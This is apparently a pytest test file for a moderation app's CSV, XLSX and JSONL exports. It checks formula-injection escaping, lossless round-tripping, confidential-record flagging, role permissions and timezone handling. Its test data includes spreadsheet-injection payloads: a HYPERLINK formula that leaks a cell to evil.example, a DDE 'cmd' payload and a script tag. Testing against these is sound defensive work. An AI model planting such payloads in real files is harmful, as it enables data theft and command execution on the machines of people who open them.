"""Spreadsheet exports: streamed, formula-safe, lossless, and flagging confidential records."""

import csv
import io
import json
import re

import openpyxl
import pytest

from moderation import exports
from moderation.exports import Column, database_csv, table
from moderation.selectors import log as log_selectors
from moderation.services import log as log_services

pytestmark = pytest.mark.django_db

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('x')</script><b>fet</b>",
    "abc\u202edcba\u202c \u2066isolate\u2069",
    "zero\u200bwidth\u200d\ufeffjoiner",
    "emoji 😀👩‍👩‍👧 🇸🇪",
    "Ä" * 100_000,
    "_x0041_ is not an A",
    'line\nbreak; semi, comma "quote"',
    "control \x01\x0b\x1f chars",
]
COLUMNS = [Column("id", "id"), Column("text", "text"), Column("confidential", "confidential")]


def _rows():
    return ({"id": i, "text": text, "confidential": i % 3 == 0} for i, text in enumerate(HOSTILE, start=1))


def _unescape_ooxml(value: str) -> str:
    # OOXML stores characters XML cannot hold as _xHHHH_ (and a literal "_x" as _x005F_x);
    # Excel decodes them when reading, openpyxl leaves them.
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_csv_round_trip_is_inert_and_lossless(delimiter):
    """Every hostile text comes back exactly, with formula-like cells behind an apostrophe."""
    data = b"".join(exports.csv_chunks(COLUMNS, _rows(), delimiter=delimiter))
    assert data.startswith(b"\xef\xbb\xbf")
    csv.field_size_limit(1_000_000)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    assert rows[0] == ["id", "text", "confidential"]
    for row, original in zip(rows[1:], HOSTILE, strict=True):
        if original.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert row[1] == "'" + original
        else:
            assert row[1] == original
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [r[2] for r in rows[1:4]] == ["false", "false", "true"]


def test_xlsx_round_trip_is_inert_and_lossless(tmp_path):
    """Every hostile text comes back exactly, as a text cell; formula-like ones carry Excel's quote prefix."""
    handle = exports.xlsx_tempfile(COLUMNS, _rows())
    workbook = openpyxl.load_workbook(handle)
    sheet = workbook.active
    assert [c.value for c in sheet[1]] == ["part", "id", "text", "confidential"]
    texts: dict[int, str] = {}
    for row in sheet.iter_rows(min_row=2):
        part, ident, text, confidential = row
        assert text.data_type in ("s", "n") or text.value is None
        assert not str(text.value or "").startswith("=") or text.quotePrefix
        assert text.data_type != "f", "no cell is a formula"
        if part.value in (None, ""):
            texts[ident.value] = _unescape_ooxml(text.value or "")
            if text.value and text.value.startswith(("=", "+", "-", "@", "\t")):
                assert text.style_id and sheet.parent._cell_styles[text.style_id].quotePrefix
        else:  # a continuation of a value longer than Excel's 32,767-character cell limit
            texts[ident.value] += _unescape_ooxml(text.value or "")
        if ident.value % 3 == 0:
            assert confidential.value is True
            assert confidential.fill.fgColor.rgb.endswith("FFD7D7"), "confidential cells are highlighted"
    assert [texts[i] for i in range(1, len(HOSTILE) + 1)] == HOSTILE


def test_jsonl_round_trip_is_lossless():
    data = b"".join(exports.jsonl_chunks(COLUMNS, _rows()))
    lines = data.decode("ascii").splitlines()
    assert [json.loads(line)["text"] for line in lines] == HOSTILE
    assert json.loads(lines[2])["confidential"] is True


def test_csv_is_streamed_in_chunks():
    """A generator of rows is consumed as it goes: chunks come out before the rows run out."""
    produced = []

    def rows():
        for i in range(exports.CHUNK_ROWS * 3):
            produced.append(i)
            yield {"id": i, "text": "x", "confidential": False}

    chunks = exports.csv_chunks(COLUMNS, rows())
    next(chunks)
    assert len(produced) <= exports.CHUNK_ROWS + 1


def test_export_rows_flag_confidential_and_hide_content_from_web_team(world, log_removal):
    log_removal(text="Vanlig kommentar.")
    log_removal(text="Hemligt innehåll.", category="h")
    qs = table.records_for_export(user=world.users["web_team"], filters=log_selectors.Filters())
    rows = {r["category"]: r for r in table.export_rows(qs, reveal_confidential=False)}
    assert rows["h"]["confidential"] is True and "Hemligt" not in (rows["h"]["text"] or "")
    assert rows["a"]["confidential"] is False and rows["a"]["text"] == "Vanlig kommentar."
    rows = {r["category"]: r for r in table.export_rows(qs, reveal_confidential=True)}
    assert rows["h"]["text"] == "Hemligt innehåll."


def test_records_for_export_refuses_other_roles(world):
    from django.core.exceptions import PermissionDenied

    for role in ("employee", "writer", "manager", "admin"):
        with pytest.raises(PermissionDenied):
            table.records_for_export(user=world.users[role], filters=log_selectors.Filters())


def test_export_times_are_local_across_the_daylight_saving_change(world, log_removal):
    """Stockholm moves from UTC+1 to UTC+2 at 01:00 UTC on 29 March 2026."""
    from datetime import UTC, datetime, timedelta

    import time_machine

    before = datetime(2026, 3, 29, 0, 30, 15, tzinfo=UTC)
    after = datetime(2026, 3, 29, 1, 30, 45, tzinfo=UTC)
    for when in (before, after):
        with time_machine.travel(when + timedelta(minutes=1), tick=False):
            log_removal(actor=world.users["web_team"], removed_at=when, comment_published_at=None)
    qs = table.records_for_export(user=world.users["archivist"], filters=log_selectors.Filters())
    rows = sorted(table.export_rows(qs, reveal_confidential=True), key=lambda r: r["id"])
    assert [r["removed_at"] for r in rows] == ["2026-03-29 01:30:15", "2026-03-29 03:30:45"]
    assert [r["comment_published_at"] for r in rows] == [None, None]


@pytest.mark.parametrize("reveal", [True, False])
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_database_formatted_csv_equals_the_python_writer(world, log_removal, reveal, delimiter):
    """The fast CSV path (lines formatted in SQL) reads back exactly as the reference writer's output."""
    from datetime import UTC, datetime, timedelta

    import time_machine

    from .conftest import png_upload

    web = world.users["web_team"]
    for i, text in enumerate(HOSTILE):
        log_removal(actor=web, text=text, author_name=HOSTILE[i % 5], category="a" if i % 2 else "h")
    original = log_removal(actor=web, text="Original.", attachments=[png_upload(), png_upload("b.png")])
    log_services.addendum_add(actor=web, original=original, explanation="=Tillägg", category="h")
    for when in (datetime(2026, 3, 29, 0, 30, 15, tzinfo=UTC), datetime(2026, 10, 25, 0, 59, 59, tzinfo=UTC)):
        with time_machine.travel(when + timedelta(minutes=1), tick=False):
            log_removal(actor=web, removed_at=when, comment_published_at=when - timedelta(hours=5))
    qs = table.records_for_export(user=world.users["archivist"], filters=log_selectors.Filters())
    fast = b"".join(database_csv.export_csv(qs, delimiter=delimiter, reveal_confidential=reveal))
    reference = b"".join(
        exports.csv_chunks(
            table.EXPORT_COLUMNS, table.export_table(qs, reveal_confidential=reveal), delimiter=delimiter
        )
    )
    assert fast.startswith(b"\xef\xbb\xbf")

    def parse(data):
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))

    assert parse(fast) == parse(reference)
    assert len(parse(fast)) == qs.count() + 1
    # With filters that become SQL parameters (search, category, period). The original was
    # logged as a but its addendum reclassified it to h: it is found under h, by an archivist.
    filtered = table.records_for_export(
        user=world.users["archivist"], filters=log_selectors.Filters(search="Original", category="h")
    )
    fast = b"".join(database_csv.export_csv(filtered, delimiter=delimiter, reveal_confidential=reveal))
    reference = b"".join(
        exports.csv_chunks(
            table.EXPORT_COLUMNS, table.export_table(filtered, reveal_confidential=reveal), delimiter=delimiter
        )
    )
    assert parse(fast) == parse(reference) and len(parse(fast)) == 2


def test_database_formatted_csv_truncates_seconds_like_the_python_writer(world, log_removal):
    """A time of hh:mm:ss.9996 is exported as hh:mm:ss on every path.

    SQLite's ``datetime(x, 'localtime')`` rounds to the nearest second while its other forms
    and the Python writer truncate: the cause of an occasional mismatch in the test above
    (about one timestamp in 2,000 has a fraction of .9995 or more).
    """
    from datetime import UTC, datetime, timedelta

    import time_machine

    when = datetime(2026, 3, 10, 12, 0, 59, 999_600, tzinfo=UTC)
    with time_machine.travel(when + timedelta(seconds=1), tick=False):
        log_removal(actor=world.users["web_team"], removed_at=when, comment_published_at=when - timedelta(hours=1))
    qs = table.records_for_export(user=world.users["archivist"], filters=log_selectors.Filters())
    fast = b"".join(database_csv.export_csv(qs, delimiter=";", reveal_confidential=True))
    row = next(csv.DictReader(io.StringIO(fast.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert (row["removed_at"], row["comment_published_at"]) == ("2026-03-10 13:00:59", "2026-03-10 12:00:59")
    assert [r["removed_at"] for r in table.export_rows(qs, reveal_confidential=True)] == ["2026-03-10 13:00:59"]
